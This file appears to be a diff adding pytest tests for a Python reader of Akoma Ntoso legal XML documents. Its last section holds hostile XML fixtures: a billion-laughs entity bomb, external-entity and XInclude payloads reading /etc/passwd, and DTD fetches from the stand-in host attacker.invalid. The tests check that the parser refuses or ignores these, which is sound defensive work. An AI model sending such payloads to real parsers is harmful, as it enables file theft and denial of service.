+    r = from_akn(xml)
+    assert r.trailing == (("Opening The President The sitting is open.",),)
+    assert "'debateBody' in debateReport kept as trailing text" in r.warnings
+
+
+def test_unreferenced_meta_note_is_kept() -> None:
+    xml = OASIS.replace('<noteRef marker="3" href="#n3"/>', "")
+    r = from_akn(xml)
+    assert ("Figures of Eurostat, 2010 edition.",) in r.trailing
+    assert any("'n3' in meta/notes is referenced by no noteRef" in w for w in r.warnings)
+
+
+@pytest.mark.parametrize("name", FOREIGN)
+def test_compact_markup_does_not_run_words_together(name: str) -> None:
+    """Without pretty-printing whitespace, blocks still separate words; inline markup not."""
+    compact = re.sub(r">\s*\n\s*<", "><", FOREIGN[name])  # indentation only
+    r = from_akn(compact)
+    assert_no_word_lost(compact, r)
+    assert r == from_akn(FOREIGN[name])
+
+
+def test_inconsistent_document_is_refused() -> None:
+    xml = to_akn(Resolution(lang="en", title="T", formula="F",
+                            recitals=(Recital("A.", "x;"), Recital("B.", "y;")),
+                            body=(Paragraph("1.", "z."),)))
+    bad = xml.replace(b"<num>B.</num>", b"<num>A.</num>")
+    with pytest.raises(AknReadError, match="does not form a consistent resolution: "
+                                           "recital 'A' appears twice"):
+        from_akn(bad)
+
+
+# -- sources ---------------------------------------------------------------------------
+
+
+def test_reads_bytes_str_path_and_tree(tmp_path: Path) -> None:
+    expected = from_akn(OASIS.encode("utf-8"))
+    path = tmp_path / "oasis.xml"
+    path.write_bytes(OASIS.encode("utf-8"))
+    assert from_akn(OASIS) == expected
+    assert from_akn(path) == expected
+    assert from_akn(str(path)) == expected
+    assert from_akn(etree.fromstring(OASIS.encode("utf-8"))) == expected
+    assert from_akn(etree.ElementTree(etree.fromstring(OASIS.encode("utf-8")))) == expected
+
+
+def test_str_with_a_legacy_encoding_declaration_is_read_as_text() -> None:
+    """A str is text: its declaration names the encoding of bytes it no longer has."""
+    xml = AKN4EU.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')
+    assert from_akn(xml).lang == "fr"
+    assert from_akn(xml).body[0].text == "Cadre général"
+
+
+def test_reads_utf16_bytes() -> None:
+    data = OASIS.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
+    assert from_akn(data) == from_akn(OASIS)
+
+
+def test_missing_file_is_an_os_error(tmp_path: Path) -> None:
+    with pytest.raises(FileNotFoundError):
+        from_akn(tmp_path / "nothing.xml")
+
+
+# -- bad and hostile input -------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("data", "message"),
+    [
+        (b"", "the document is empty"),
+        (b"  \n\t ", "the document is empty"),
+        ("", "the document is empty"),
+        ("   ", "the document is empty"),
+        (b"\x00\xff\xfe garbage \x89PNG", "not well-formed XML"),
+        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "not well-formed XML"),
+        (b"<akomaNtoso xmlns='http://docs.oasis-open.org/legaldocml/ns/akn/3.0'>",
+         "not well-formed XML"),
+        ("<p>unclosed <b>tags</p>", "not well-formed XML"),
+    ],
+)
+def test_empty_and_garbage_input(data, message: str) -> None:
+    with pytest.raises(AknReadError, match=message):
+        from_akn(data)
+
+
+@pytest.mark.parametrize(
+    ("xml", "message"),
+    [
+        ("<html><body><p>Hello</p></body></html>",
+         r"not an Akoma Ntoso 3.0 document: root element is 'html'"),
+        ('<akomaNtoso xmlns="http://www.akomantoso.org/2.0"><act/></akomaNtoso>',
+         r"root element is '\{http://www.akomantoso.org/2.0\}akomaNtoso'"),
+        ("<akomaNtoso><statement/></akomaNtoso>", "root element is 'akomaNtoso'"),
+        ('<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0">'
+         "<components/></akomaNtoso>",
+         r"no document element \(statement, doc …\) under akomaNtoso; found components"),
+    ],
+)
+def test_not_akoma_ntoso(xml: str, message: str) -> None:
+    with pytest.raises(AknReadError, match=message):
+        from_akn(xml)
+
+
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE akomaNtoso [
+  <!ENTITY lol "lol">
+  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
+  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
+  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
+  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
+  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
+]>
+<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0"><doc name="x">
+<preface><longTitle><p>&lol9;</p></longTitle></preface><mainBody><p>x</p></mainBody>
+</doc></akomaNtoso>"""
+
+EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE akomaNtoso [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
+<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0"><doc name="x">
+<preface><longTitle><p>&secret;</p></longTitle></preface><mainBody><p>x</p></mainBody>
+</doc></akomaNtoso>"""
+
+EXTERNAL_DTD = b"""<?xml version="1.0"?>
+<!DOCTYPE akomaNtoso SYSTEM "http://attacker.invalid/akn.dtd">
+<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0"/>"""
+
+PARAMETER_ENTITY = b"""<!-- a comment first --><!DOCTYPE x [
+  <!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
+<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0"/>"""
+
+
+@pytest.mark.parametrize(
+    "data",
+    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY,
+     EXTERNAL_ENTITY.decode("ascii").encode("utf-16"),  # a DTD behind a byte-order mark
+     b"\xef\xbb\xbf" + BILLION_LAUGHS],
+    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity",
+         "utf-16", "utf-8-bom"],
+)
+def test_hostile_xml_is_refused_quickly(data: bytes) -> None:
+    start = time.perf_counter()
+    with pytest.raises(AknReadError, match=r"refused: the document declares a DTD"):
+        from_akn(data)
+    assert time.perf_counter() - start < 0.5
+
+
+def test_hostile_xml_as_str_and_file(tmp_path: Path) -> None:
+    path = tmp_path / "lol.xml"
+    path.write_bytes(BILLION_LAUGHS)
+    for source in (BILLION_LAUGHS.decode("ascii"), path, str(path)):
+        with pytest.raises(AknReadError, match="DTD"):
+            from_akn(source)
+
+
+def test_xinclude_is_not_processed() -> None:
+    xml = COBALT.replace(
+        "<p>Done at Strasbourg.</p>",
+        '<p xmlns:xi="http://www.w3.org/2001/XInclude">Done at Strasbourg.'
+        '<xi:include href="/etc/passwd" parse="text"/></p>')
+    r = from_akn(xml)
+    assert r.trailing == (("Done at Strasbourg.",),)
+    assert "root:" not in repr(r)
+
+
+def test_deep_nesting_is_refused_quickly() -> None:
+    depth = 100_000
+    data = (b'<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0">'
+            + b"<b>" * depth + b"</b>" * depth + b"</akomaNtoso>")
+    start = time.perf_counter()
+    with pytest.raises(AknReadError, match="not well-formed XML"):
+        from_akn(data)
+    assert time.perf_counter() - start < 1.0
+
+
+def test_oversized_input_is_refused_unparsed() -> None:
+    data = b"<a>" + b" " * MAX_INPUT_BYTES + b"</a>"
+    start = time.perf_counter()
+    with pytest.raises(AknReadError, match="exceeds the limit"):
+        from_akn(data)
+    assert time.perf_counter() - start < 0.5
